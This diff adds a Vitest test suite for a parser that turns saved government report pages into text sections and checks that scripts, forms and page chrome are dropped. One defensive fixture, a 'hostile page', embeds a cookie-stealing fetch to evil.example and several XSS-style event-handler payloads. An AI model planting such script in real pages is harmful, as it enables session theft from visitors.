@@ -1,0 +1,253 @@
+import { readFileSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest'
+import type { Library } from '../shared/report-model'
+import { formatNotice, type ContentNotice } from './build-library'
+import { renderGeneratedContent } from './generate-content'
+import { parseHtml } from './parse-html'
+import { ContentError } from './content-error'
+import { BUNDLED_CONTENT_DIR, SAVED_PAGES_DIR, TempDirs, writeReport } from './test-support'
+
+const page = (body: string) =>
+  `<!DOCTYPE html><html><head><title>T</title></head><body>${body}</body></html>`
+
+describe('a page saved from a browser', () => {
+  let saved: Library
+  let notices: ContentNotice[]
+  let fromText: Library
+  const fetch = vi.fn()
+
+  beforeAll(() => {
+    vi.stubGlobal('fetch', fetch)
+    ;({ library: saved, notices } = renderGeneratedContent(SAVED_PAGES_DIR))
+    fromText = renderGeneratedContent(BUNDLED_CONTENT_DIR).library
+  })
+  afterEach(() => vi.unstubAllGlobals())
+
+  it('gives the same six sections and paragraphs as the plain-text capture of the report', () => {
+    const [html] = saved.reports
+    const [text] = fromText.reports
+    expect(html?.format).toBe('html')
+    expect(html?.sections).toEqual(text?.sections)
+    expect(html?.contentHash).toBe(text?.contentHash)
+  })
+
+  it('carries nothing of what the page runs, loads or shows around the article', () => {
+    const all = JSON.stringify(saved.reports[0]?.sections)
+    for (const chrome of [
+      'Text a script would add', // a script's output: scripts never run
+      'gtag', // a script's code
+      'usa-banner', // a style sheet
+      'Search state.gov', // a form
+      'does not show frames', // an iframe's fallback
+      'officials at a meeting', // an image's description
+      'Policy Issues', // the navigation
+      'official website', // the .gov banner
+      'On This Page',
+      'Privacy Policy', // the footer
+      'Lessons of 1989',
+      'https://'
+    ]) {
+      expect(all).not.toContain(chrome)
+    }
+    expect(fetch).not.toHaveBeenCalled()
+  })
+
+  it('says what it dropped', () => {
+    expect(notices.map(formatNotice)).toEqual([
+      'crt2021-kazakhstan.html: dropped what the page runs or loads (3 scripts, 2 style sheets, 4 forms and form fields, 1 embedded frame, 5 images and media elements): the app holds only text',
+      'crt2021-kazakhstan.html: dropped the page around the article (its header, navigation, sidebars and footer: 646 characters)',
+      'crt2021-kazakhstan.html: dropped the page title ("Country Reports on Terrorism 2021…", 2 lines): it repeats the report\'s title'
+    ])
+  })
+})
+
+describe('a saved page in the encoding it declares', () => {
+  const temp = new TempDirs()
+  afterEach(() => temp.cleanup())
+  const build = (bytes: Buffer) => {
+    const dir = temp.make()
+    writeReport(dir, 'page.html', '')
+    writeFileSync(join(dir, 'page.html'), bytes)
+    try {
+      return renderGeneratedContent(dir).library.reports[0]?.sections
+    } catch (error) {
+      if (error instanceof ContentError) return error.problems.map((p) => p.problem)
+      throw error
+    }
+  }
+  /** A page as an older site serves it, one byte a character: ’ “ ” are 0x92-0x94 in windows-1252. */
+  const older = (charset: string) =>
+    Buffer.from(
+      [
+        `<html><head><meta http-equiv="Content-Type" content="text/html; charset=${charset}"></head>`,
+        '<body><h2>Overview</h2><p>Kazakhstan’s “five-year” program.</p></body></html>'
+      ]
+        .join('')
+        .split('')
+        .map((c) => ({ '’': 0x92, '“': 0x93, '”': 0x94 })[c] ?? c.charCodeAt(0))
+    )
+
+  it('reads a page in windows-1252, as older sites and browsers save them', () => {
+    expect(build(older('windows-1252'))).toEqual([
+      {
+        id: 'overview',
+        heading: 'Overview',
+        paragraphs: [{ id: 'overview-p1', text: 'Kazakhstan’s “five-year” program.' }]
+      }
+    ])
+  })
+
+  it('refuses a page in an encoding it does not know, saying what to do', () => {
+    expect(build(older('x-made-up'))).toEqual([
+      'the page says its characters are in "x-made-up", an encoding the build does not know; save the page again as UTF-8'
+    ])
+  })
+})
+
+describe('parseHtml', () => {
+  it('keeps headings with their levels, lists, tables and quotes as the model’s blocks', () => {
+    const { sections } = parseHtml(
+      page(`<article>
+        <h2>Overview</h2><p>Text of the <a href="https://example.org">section</a>,<br>on two lines.</p>
+        <h3>Border Security</h3>
+        <ol start="3"><li>Three<ul><li>A detail</li></ul></li><li value="7">Seven</li></ol>
+        <table><thead><tr><th>Year</th><th>Cases</th></tr></thead><tbody><tr><td>2020</td><td>3</td></tr></tbody></table>
+        <blockquote><p>Quoted one.</p><p>Quoted two.</p></blockquote>
+        <h2>Cooperation</h2><table><tr><th>Partner</th></tr></table>
+      </article>`)
+    )
+    expect(sections).toEqual([
+      { heading: 'Overview', blocks: [{ text: 'Text of the section, on two lines.' }] },
+      {
+        heading: 'Border Security',
+        level: 2,
+        blocks: [
+          { text: 'Three', block: { kind: 'list-item', ordered: true, depth: 1, number: 3 } },
+          { text: 'A detail', block: { kind: 'list-item', ordered: false, depth: 2 } },
+          { text: 'Seven', block: { kind: 'list-item', ordered: true, depth: 1, number: 7 } },
+          {
+            text: 'Year | Cases',
+            block: {
+              kind: 'table-row',
+              table: 1,
+              header: true,
+              cells: [
+                [0, 4],
+                [7, 12]
+              ]
+            }
+          },
+          {
+            text: '2020 | 3',
+            block: {
+              kind: 'table-row',
+              table: 1,
+              header: false,
+              cells: [
+                [0, 4],
+                [7, 8]
+              ]
+            }
+          },
+          { text: 'Quoted one.', block: { kind: 'quote' } },
+          { text: 'Quoted two.', block: { kind: 'quote' } }
+        ]
+      },
+      {
+        heading: 'Cooperation',
+        blocks: [
+          { text: 'Partner', block: { kind: 'table-row', table: 1, header: true, cells: [[0, 7]] } }
+        ]
+      }
+    ])
+  })
+
+  it('keeps a page’s parts and their subsections at two levels, though Readability renames <h1>', () => {
+    const prose = (n: number) =>
+      '<p>A paragraph of the report, long enough, with commas, to read as an article.</p>'.repeat(n)
+    const { sections } = parseHtml(
+      page(`<article><h1>Part One</h1>${prose(3)}<h2>Details</h2>${prose(3)}</article>`)
+    )
+    expect(sections.map(({ heading, level }) => ({ heading, level }))).toEqual([
+      { heading: 'Part One', level: undefined },
+      { heading: 'Details', level: 2 }
+    ])
+  })
+
+  it('takes a bold label and colon at the start of a paragraph as a heading, not a plain one', () => {
+    const { sections } = parseHtml(
+      page(
+        '<p><strong>Overview:</strong>&nbsp; Body.</p><p>Note: a plain sentence.</p><p><b>Details</b>: More.</p>'
+      )
+    )
+    expect(sections).toEqual([
+      { heading: 'Overview', blocks: [{ text: 'Body.' }, { text: 'Note: a plain sentence.' }] },
+      { heading: 'Details', blocks: [{ text: 'More.' }] }
+    ])
+  })
+
+  it('reads a page that is only a fragment, as a browser would', () => {
+    expect(parseHtml('<h2>Overview</h2><p>Body.</p>').sections).toEqual([
+      { heading: 'Overview', blocks: [{ text: 'Body.' }] }
+    ])
+  })
+
+  it('keeps the last word of a page cut off in the middle of it, and says the page looks cut off', () => {
+    const source = readFileSync(join(SAVED_PAGES_DIR, 'crt2021-kazakhstan.html'), 'utf8')
+    const cut = source.slice(
+      0,
+      source.indexOf('helped three Afghan citizens') + 'helped three Afg'.length
+    )
+    const parsed = parseHtml(cut)
+    expect(parsed.sections.at(-1)?.blocks.at(-1)?.text).toMatch(/ that helped three Afg$/)
+    expect(parsed.notices.filter((n) => n.kind === 'warning').map((n) => n.message)).toEqual([
+      'the page looks cut off: the file stops before the end of the page (it has no closing </html>). Everything up to there is kept; save the page again if it is not complete.'
+    ])
+  })
+
+  it('carries only the words of a hostile page: nothing it runs, loads, submits or hides', () => {
+    const fetch = vi.fn()
+    vi.stubGlobal('fetch', fetch)
+    const parsed = parseHtml(`<!DOCTYPE html><html><head>
+      <meta http-equiv="refresh" content="0; url=https://evil.example/">
+      <base href="https://evil.example/">
+      <link rel="preload" href="https://evil.example/font.woff2" as="font">
+      <link rel="stylesheet" href="https://evil.example/a.css">
+      <style>@import url(https://evil.example/b.css); body { background: url(https://evil.example/c.png) }</style>
+      <script>fetch('https://evil.example/steal?' + document.cookie)</script>
+      </head><body onload="alert('onload')"><article>
+      <h2 onclick="alert('heading')">Overview</h2>
+      <p>Kept text.<script>alert(1)</script> More kept text with a <a href="javascript:alert(2)">link’s words</a>.</p>
+      <p><img src="https://evil.example/pixel.gif" onerror="alert(3)" alt="tracking pixel">Text beside an image.</p>
+      <svg><script>alert(4)</script><text>drawn text</text></svg>
+      <object data="https://evil.example/x.swf">object fallback</object><embed src="https://evil.example/y">
+      <iframe srcdoc="<p>frame text</p>"></iframe>
+      <form action="https://evil.example/post"><input name="q" value="typed"><button>Send</button>
+      <textarea>textarea text</textarea><select><option>option text</option></select></form>
+      <template><p>template text</p></template><noscript><p>noscript text</p></noscript>
+      <!-- comment text -->
+      <p>&lt;script&gt;alert(5)&lt;/script&gt; is kept as the words it is.</p>
+      <h2>Cooperation</h2><p>The last paragraph.</p>
+      </article></body></html>`)
+    expect(parsed.sections).toEqual([
+      {
+        heading: 'Overview',
+        blocks: [
+          { text: 'Kept text. More kept text with a link’s words.' },
+          { text: 'Text beside an image.' },
+          { text: '<script>alert(5)</script> is kept as the words it is.' }
+        ]
+      },
+      { heading: 'Cooperation', blocks: [{ text: 'The last paragraph.' }] }
+    ])
+    expect(parsed.notices.map((notice) => notice.message)).toEqual([
+      'dropped what the page runs or loads (3 scripts, 1 no-script fallback, 2 style sheets, 5 forms and form fields, 1 embedded frame, 2 images and media elements, 2 embedded objects, 1 template or dialog): the app holds only text'
+    ])
+    expect(fetch).not.toHaveBeenCalled()
+  })
+
+  it('finds no sections in a page without headings', () => {
+    expect(parseHtml(page('<p>Just prose.</p><p>More prose.</p>')).sections).toEqual([])
+  })
+})
